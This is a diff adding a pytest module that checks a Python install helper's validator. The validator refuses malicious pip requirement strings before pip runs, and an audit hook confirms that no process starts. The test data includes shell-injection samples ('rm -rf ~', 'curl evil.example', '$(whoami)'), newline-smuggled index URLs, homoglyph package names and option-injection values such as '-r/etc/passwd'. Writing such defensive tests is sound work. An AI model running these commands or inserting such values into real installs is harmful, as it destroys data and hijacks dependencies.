@@ -1,0 +1,130 @@
+"""The gate's input checks: every bad requirement is refused with its reason before pip (or anything
+else) runs. An audit hook records every process this interpreter starts, so "pip never ran" is
+observed, not assumed."""
+from __future__ import annotations
+
+import sys
+
+import pytest
+
+from tbkit.errors import InstallRefused, TbkitError
+from tbkit.install import ensure, install, plan
+from tbkit.install.pip import IndexOptions
+from tbkit.install.requirements import validate
+
+_SPAWNED: list = []
+
+
+def _audit(event, args):
+    if event in ("subprocess.Popen", "os.posix_spawn", "os.exec", "os.system"):
+        _SPAWNED.append((event, args))
+
+
+sys.addaudithook(_audit)  # hooks cannot be removed; it only appends to a list
+
+
+BAD = {
+    "-e .": "pip option",
+    "--index-url=https://evil.example/simple": "pip option",
+    "six\n--index-url https://evil.example/simple": "'\\n'",
+    "six\t": "'\\t'",
+    "six\u200b": "'\\u200b'",  # zero-width space: looks like "six"
+    "ѕix": "non-ASCII",  # Cyrillic "ѕ": a look-alike name
+    " six": "leading or trailing spaces",
+    "six; rm -rf ~": "`;`",
+    "six && curl evil.example": "shell syntax",
+    "six $(whoami)": "shell syntax",
+    "six`id`": "shell syntax",
+    "six|cat": "shell syntax",
+    "https://example.org/six-1.17.0-py3-none-any.whl": "allow_urls=True",
+    "six @ https://example.org/six-1.17.0-py3-none-any.whl": "allow_urls=True",
+    "git+https://example.org/six.git": "allow_urls=True",
+    "./six-1.17.0-py3-none-any.whl": "allow_paths=True",
+    "/tmp/some/project": "allow_paths=True",
+    "numpy (>=1)": "has no place",
+    "six==": "not a valid requirement",
+    "": "empty",
+}
+
+
+@pytest.mark.parametrize("text", list(BAD), ids=[repr(t) for t in BAD])
+def test_bad_requirement_is_refused_before_any_process_starts(text):
+    before = len(_SPAWNED)
+    with pytest.raises(InstallRefused) as info:
+        ensure(text, no_index=True)
+    message = str(info.value)
+    assert BAD[text] in message
+    assert "\n" not in message and message.startswith("tbkit refused")
+    assert len(_SPAWNED) == before, f"a process was started for a refused input: {_SPAWNED[before:]}"
+
+
+@pytest.mark.parametrize("value", [123, None, b"six"])
+def test_non_string_requirement_is_refused(value):
+    with pytest.raises(InstallRefused, match="not a string"):
+        validate(value)
+
+
+def test_no_requirement_at_all_is_refused():
+    with pytest.raises(InstallRefused, match="install nothing"):
+        ensure()
+
+
+def test_urls_and_paths_need_explicit_permission_and_paths_must_exist(tmp_path):
+    url = validate("six @ https://example.org/six-1.17.0-py3-none-any.whl", allow_urls=True)
+    assert (url.kind, url.name) == ("url", "six")
+    assert validate("https://example.org/x-1.0-py3-none-any.whl", allow_urls=True).name is None
+    with pytest.raises(InstallRefused, match="only https, http, file, git\\+https URLs"):
+        validate("six @ ftp://example.org/six.whl", allow_urls=True)
+    with pytest.raises(InstallRefused, match="no such file"):
+        validate(str(tmp_path / "missing-1.0-py3-none-any.whl"), allow_paths=True)
+    (tmp_path / "notes.txt").write_text("x")
+    with pytest.raises(InstallRefused, match="not a wheel"):
+        validate(str(tmp_path / "notes.txt"), allow_paths=True)
+    with pytest.raises(InstallRefused, match="not a Python project"):
+        validate(str(tmp_path), allow_paths=True)
+    (tmp_path / "pyproject.toml").write_text("[project]\nname='x'\n")
+    assert validate(str(tmp_path), allow_paths=True).kind == "path"
+
+
+@pytest.mark.parametrize("text,name", [("captum>=0.9", "captum"), ("Optuna_Integration", "optuna-integration"),
+                                        ("lightning[extra]>=2,<3", "lightning"), ("numpy!=2.0.*", "numpy"),
+                                        ("torch==2.15.0+cu128", "torch"), ("six~=1.17", "six")])
+def test_ordinary_requirements_pass_with_canonical_names(text, name):
+    req = validate(text)
+    assert (req.kind, req.name, req.text) == ("name", name, text)
+
+
+def test_index_options_come_from_keywords_then_environment(monkeypatch, tmp_path):
+    monkeypatch.setenv("TBKIT_PIP_FIND_LINKS", f"{tmp_path}/a{__import__('os').pathsep}{tmp_path}/b")
+    monkeypatch.setenv("TBKIT_PIP_NO_INDEX", "1")
+    monkeypatch.setenv("TBKIT_PIP_INDEX_URL", "http://127.0.0.1:9/simple")
+    env = IndexOptions.resolve()
+    assert env.args() == ["--no-index", "--index-url", "http://127.0.0.1:9/simple",
+                          "--find-links", f"{tmp_path}/a", "--find-links", f"{tmp_path}/b"]
+    explicit = IndexOptions.resolve(index_url="http://127.0.0.1:8/simple", find_links=str(tmp_path))
+    assert explicit.args() == ["--no-index", "--index-url", "http://127.0.0.1:8/simple", "--find-links", str(tmp_path)]
+    monkeypatch.delenv("TBKIT_PIP_NO_INDEX")
+    monkeypatch.delenv("TBKIT_PIP_INDEX_URL")
+    monkeypatch.delenv("TBKIT_PIP_FIND_LINKS")
+    assert IndexOptions.resolve().args() == []
+
+
+@pytest.mark.parametrize("kwargs", [{"index_url": "--trusted-host=evil"}, {"find_links": ["-r/etc/passwd"]},
+                                    {"index_url": "http://x\n--pre"}])
+def test_index_option_values_that_pip_would_read_as_options_are_refused(kwargs):
+    before = len(_SPAWNED)
+    with pytest.raises(InstallRefused, match="refused the"):
+        plan("six", **kwargs)
+    assert len(_SPAWNED) == before
+
+
+def test_the_module_is_callable_and_errors_are_tbkit_errors():
+    import tbkit
+
+    assert tbkit.install is install or tbkit.install.install is install
+    with pytest.raises(TbkitError):
+        tbkit.install("-e .")
+    with pytest.raises(TbkitError):
+        tbkit.install.install("-e .")
+    with pytest.raises(TbkitError):
+        tbkit.install.ensure("-e .")
